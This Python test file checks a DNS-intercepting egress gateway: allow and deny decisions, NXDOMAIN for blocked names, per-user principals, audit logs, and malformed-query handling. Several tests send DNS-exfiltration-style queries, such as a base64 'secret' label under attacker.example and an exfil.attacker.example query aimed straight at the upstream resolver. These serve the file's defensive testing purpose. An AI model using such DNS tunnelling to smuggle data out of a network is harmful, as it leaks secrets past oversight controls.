"""The pod's DNS in a real namespace: every query on port 53, to any server, lands on the
policy-aware listener; a denied name never leaves the pod."""

from __future__ import annotations

import sys
import time

from tests.transparent.conftest import MANY
from tests.transparent.netns import (
    AGENT_UID,
    CODER_UID,
    DNS_V4,
    INET_V6,
    ORIGIN_V4,
    ORIGIN_V6,
    OTHER_V4,
    Topology,
    line_time,
)


def _dns_lines(pod: Topology, name: str) -> list[dict[str, object]]:
    lines = pod.wait_audit(lambda line: line.get("kind") == "dns" and line.get("host") == name)
    return [line for line in lines if line.get("kind") == "dns" and line.get("host") == name]


def test_an_allowed_name_resolves_through_the_listener(pod: Topology) -> None:
    reply = pod.dig("docs.example.org")
    assert reply == {"rcode": "NOERROR", "tc": 0, "answers": [ORIGIN_V4]}
    line = _dns_lines(pod, "docs.example.org")[-1]
    assert line["decision"] == "allow"
    assert line["principal"] == "research"
    assert line["qtype"] == "A"
    assert line["answers"] == 1
    assert (line["rule"], line["rule_pattern"]) == ("allow_domains[0]", "docs.example.org")
    assert line["conn"]
    assert isinstance(line["client_ip"], str)
    assert isinstance(line["client_port"], int)


def test_a_denied_name_is_answered_nxdomain_and_never_sent_upstream(pod: Topology) -> None:
    reply = pod.dig("c2VjcmV0.attacker.example")
    assert reply["rcode"] == "NXDOMAIN"
    assert _dns_lines(pod, "c2vjcmv0.attacker.example")[-1]["decision"] == "deny"
    assert "attacker" not in pod.world_log("dns.log")
    # The upstream does log what it is sent: an allowed name shows up there.
    pod.dig("docs.example.org", "AAAA")
    assert "docs.example.org AAAA" in pod.world_log("dns.log")


def test_a_name_answering_a_private_address_gets_no_answer(pod: Topology) -> None:
    reply = pod.dig("private.example.org")
    assert reply["rcode"] == "NXDOMAIN"
    assert reply["answers"] == []
    line = _dns_lines(pod, "private.example.org")[-1]
    assert line["code"] == "blocked_destination"
    assert line["rule"] == "builtin_ranges"


def test_other_query_types_are_refused_by_default_without_forwarding(pod: Topology) -> None:
    reply = pod.dig("docs.example.org", "TXT")
    assert reply["rcode"] == "REFUSED"
    assert "docs.example.org TXT" not in pod.world_log("dns.log")


def test_tcp_queries_and_truncation_to_tcp(pod: Topology) -> None:
    udp = pod.dig("many.example.org")
    assert udp["tc"] == 1
    assert udp["answers"] == []
    tcp = pod.dig("many.example.org", mode="tcp")
    assert tcp["tc"] == 0
    assert tcp["answers"] == sorted(MANY)
    edns = pod.dig("many.example.org", mode="edns")
    assert edns["tc"] == 0
    assert edns["answers"] == sorted(MANY)


def test_ipv6_dns_is_intercepted_too(pod: Topology) -> None:
    reply = pod.dig("docs.example.org", "AAAA", server=INET_V6)
    assert reply == {"rcode": "NOERROR", "tc": 0, "answers": [ORIGIN_V6]}
    denied = pod.dig("c2VjcmV0.attacker.example", "AAAA", server=INET_V6)
    assert denied["rcode"] == "NXDOMAIN"


def test_each_uid_is_answered_under_its_own_principal(pod: Topology) -> None:
    assert pod.dig("code.example.net", uid=CODER_UID)["rcode"] == "NOERROR"
    assert pod.dig("code.example.net", uid=AGENT_UID)["rcode"] == "NXDOMAIN"
    pod.wait_audit(
        lambda line: (
            line.get("kind") == "dns" and line.get("principal") == "research" and line.get("host") == "code.example.net"
        )
    )
    lines = _dns_lines(pod, "code.example.net")
    assert {(line["principal"], line["decision"]) for line in lines} >= {("coder", "allow"), ("research", "deny")}


def test_curl_with_only_the_pods_resolver_goes_through_both_listeners(pod: Topology) -> None:
    started = time.time()
    result = pod.curl("-4", "https://docs.example.org/")
    assert result.returncode == 0, result.stderr
    assert result.stdout == f"origin={ORIGIN_V4} host=docs.example.org\n"
    lines = pod.wait_audit(lambda line: line.get("kind") == "transparent" and line_time(line) >= started)
    recent = [line for line in lines if line_time(line) >= started]
    assert any(line.get("kind") == "dns" and line.get("host") == "docs.example.org" for line in recent)
    assert any(line.get("kind") == "transparent" and line.get("decision") == "allow" for line in recent)


def test_the_dns_server_is_reachable_only_through_the_listener(pod: Topology) -> None:
    # The agent aims straight at the upstream's address: the rules still hand the query to the
    # listener, so the denied name never reaches the upstream.
    assert pod.dig("exfil.attacker.example", server=DNS_V4)["rcode"] == "NXDOMAIN"
    assert "exfil" not in pod.world_log("dns.log")


def test_every_audit_line_matches_the_schema(pod: Topology) -> None:
    assert pod.audit()
    assert pod.schema_errors() == []


# A raw query dnslib would refuse to build: labels and names past RFC 1035's limits.
RAW_QUERY = """
import socket, struct, sys
labels = [bytes.fromhex(label) for label in sys.argv[1].split(".")]
query = struct.pack("!HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0)
query += b"".join(bytes([len(label)]) + label for label in labels) + b"\\x00" + struct.pack("!HH", 1, 1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(5)
s.sendto(query, (sys.argv[2], 53))
reply = s.recv(4096)
txid, flags = struct.unpack_from("!HH", reply)
print(hex(txid), flags & 0x8000 != 0, flags & 0xF)
"""


def test_a_label_over_63_bytes_or_a_name_over_255_gets_formerr_and_no_traceback(pod: Topology) -> None:
    long_label = ("61" * 64) + ".6f7267"  # 'a' * 64 + '.org'
    long_name = ".".join(["62" * 63] * 4 + ["6f7267"])  # 4 x 63 bytes + 'org': 261 bytes on the wire
    for labels in (long_label, long_name):
        result = pod.agent(sys.executable, "-c", RAW_QUERY, labels, DNS_V4)
        assert result.returncode == 0, result.stderr
        assert result.stdout.split() == ["0x4242", "True", "1"]  # our id, a reply, FORMERR
    # One line per query, and the second may be written after the first is read: wait for both.
    lines = pod.wait_audit(lambda line: line.get("kind") == "dns" and "63 bytes" in str(line.get("reason")), count=2)
    refused = [line for line in lines if line.get("kind") == "dns" and "63 bytes" in str(line.get("reason"))]
    assert len(refused) >= 2
    assert refused[-1]["code"] == "invalid_input"
    assert "Traceback" not in (pod.dir / "gateway-stderr.log").read_text(errors="replace")


def test_a_repeated_address_query_is_answered_from_the_gateways_own_resolver(pod: Topology) -> None:
    def upstream_asked() -> int:
        return pod.world_log("dns.log").splitlines().count("code.example.net A")

    first = pod.dig("code.example.net", uid=CODER_UID)
    asked = upstream_asked()
    assert asked >= 1
    for _ in range(3):
        assert pod.dig("code.example.net", uid=CODER_UID) == first
    # The same answer, and no new upstream query: it came from the resolver cache the gateway dials by.
    assert upstream_asked() == asked
    assert first["answers"] == [OTHER_V4]
